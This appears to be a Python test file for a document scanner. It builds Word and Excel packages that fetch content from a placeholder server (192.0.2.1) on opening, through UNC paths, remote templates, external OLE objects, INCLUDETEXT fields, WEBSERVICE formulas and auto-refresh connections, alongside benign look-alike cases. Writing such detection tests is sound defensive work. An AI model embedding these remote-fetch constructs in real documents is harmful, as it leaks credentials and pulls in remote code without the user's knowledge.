"""Files that fetch something from elsewhere when somebody opens them."""

from __future__ import annotations

from tests.hostile.registry import excel, hostile, in_body, in_sheet, packed, related, twin, word

TEXT, BOOK = "word/document.xml", "xl/workbook.xml"
SETTINGS = "word/settings.xml"
SERVERS = {
    "as Windows writes it": "\\\\192.0.2.1\\share\\a",
    "as a file on it": "file://192.0.2.1/share/a",
    "with four slashes": "file:////192.0.2.1/share/a",
    "with backslashes behind": "file:///\\\\192.0.2.1\\share\\a",
    "with plain slashes": "//192.0.2.1/share/a",
    "in its long form": "\\\\?\\UNC\\192.0.2.1\\share\\a",
    "written with percents": "%5C%5C192.0.2.1%5Cshare%5Ca",
}


def pointing(kind: str, target: str, source: str = TEXT) -> dict[str, bytes]:
    return related(word(), source, kind, target)


for _name, _target in SERVERS.items():
    hostile(f"fetch: a picture on a server, {_name}", "external-unc", packed(pointing("image", _target)))
    hostile(
        f"fetch: a template on a server, {_name}",
        "remote-template",
        packed(pointing("attachedTemplate", _target, SETTINGS)),
    )
for _target in (
    "http://192.0.2.1/a.dotm",
    "HTTPS://example.org/a.dotm",
    "ftp://example.org/a.dotm",
    "ht tp://x.org/a",
):
    hostile(
        f"fetch: a template from {_target}",
        "remote-template",
        packed(pointing("attachedTemplate", _target, SETTINGS)),
    )
for _kind in ("oleObject", "frame", "subDocument", "mailMergeSource", "aFChunk", "transform", "control"):
    hostile(f"fetch: {_kind}", "external-content", packed(pointing(_kind, "http://192.0.2.1/a")))
hostile("fetch: something unknown", "external-content", packed(pointing("novelty", "https://192.0.2.1/a")))
hostile(
    "fetch: a picture in a header",
    "external-unc",
    packed(pointing("image", SERVERS["as a file on it"], "word/odd.xml")),
)
hostile(
    "fetch: an outside target that says to be inside",
    "external-content",
    packed(related(word(), TEXT, "oleObject", "http://192.0.2.1/a", external=False)),
)
hostile(
    "fetch: a workbook on a server",
    "external-unc",
    packed(
        related(excel(), "xl/externalLinks/externalLink1.xml", "externalLinkPath", "\\\\192.0.2.1\\a.xlsx")
    ),
    "xlsx",
)
twin(
    "fetch: a template on somebody's disk",
    packed(pointing("attachedTemplate", "file:///C:\\Users\\x\\a.dotx", SETTINGS)),
    "metadata-local-path",
)
twin(
    "fetch: a template on a drive, with four slashes",
    packed(pointing("attachedTemplate", "file:////V:\\forms\\a.dot", SETTINGS)),
    "metadata-local-path",
)
twin(
    "fetch: a template on a Mac",
    packed(pointing("attachedTemplate", "file:////Users/x/a.dotx", SETTINGS)),
    "metadata-local-path",
)
twin("fetch: the usual template", packed(pointing("attachedTemplate", "Normal.dotm", SETTINGS)))
twin("fetch: a picture from a page", packed(pointing("image", "https://example.org/a.png")), "external-image")
for _target in ("https://example.org", "mailto:a@example.org", "tel:+49301", "notes.docx", "#place"):
    twin(f"fetch: a link to {_target}", packed(pointing("hyperlink", _target)))
for _target in ("javascript://alert", "file:///C:\\a.docx", "chrome-extension://a/b", "\\\\h\\s\\a.docx"):
    twin(f"fetch: a link to {_target}", packed(pointing("hyperlink", _target)), "odd-link")
twin(
    "fetch: values of a workbook beside it",
    packed(related(excel(), "xl/externalLinks/externalLink1.xml", "externalLinkPath", "book2.xlsx")),
    "external-workbook",
    suffix="xlsx",
)


def field(words: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{words}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


FETCHING = (
    'INCLUDETEXT "http://192.0.2.1/a.docx"',
    'INCLUDEPICTURE "https://192.0.2.1/a.png" \\d',
    'includetext "\\\\\\\\192.0.2.1\\\\share\\\\a.docx"',
    'LINK Excel.Sheet "http://192.0.2.1/a.xlsx"',
    'IMPORT "ftp://192.0.2.1/a"',
    'DATABASE \\d "//192.0.2.1/a.mdb"',
    'RD "file://192.0.2.1/share/a.docx"',
)
for _words in FETCHING:
    hostile(
        f"fetch: a field {_words.partition(' ')[0]}",
        "external-field",
        packed(in_body(field(_words.replace('"', "&quot;")))),
    )
for _words in ("INCLUDETEXT a.docx", 'INCLUDEPICTURE "C:\\\\a.png"'):
    twin(f"fetch: a field {_words}", packed(in_body(field(_words.replace('"', "&quot;")))), "linked-field")
for _words in ("PAGE", "DATE \\@ yyyy", 'HYPERLINK "https://example.org"'):
    twin(f"fetch: a field {_words}", packed(in_body(field(_words.replace('"', "&quot;")))))
for _formula in (
    'WEBSERVICE("http://192.0.2.1")',
    'IMAGE("https://x.org/a")',
    'RTD("a",,"b")',
    '_xlfn.WEBSERVICE("x")',
):
    twin(
        f"fetch: a formula {_formula}",
        packed(in_sheet(f"<row r='900'><c r='A900' t='str'><f>{_formula}</f><v>x</v></c></row>")),
        "formula-network",
        suffix="xlsx",
    )
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
for _name, _markup in {
    "data fetched on opening": '<connection id="1" refreshOnLoad="1"/>',
    "data from a web page": '<connection id="1"><webPr url="http://192.0.2.1"/></connection>',
}.items():
    hostile(
        f"fetch: {_name}",
        "live-connection",
        packed(
            related(excel(), BOOK, "connections", "connections.xml", external=False)
            | {"xl/connections.xml": f'<connections xmlns="{S}">{_markup}</connections>'.encode()}
        ),
        "xlsx",
    )
twin(
    "fetch: a connection that waits",
    packed(
        related(excel(), BOOK, "connections", "connections.xml", external=False)
        | {"xl/connections.xml": f'<connections xmlns="{S}"><connection id="1"/></connections>'.encode()}
    ),
    "data-connection",
    suffix="xlsx",
)
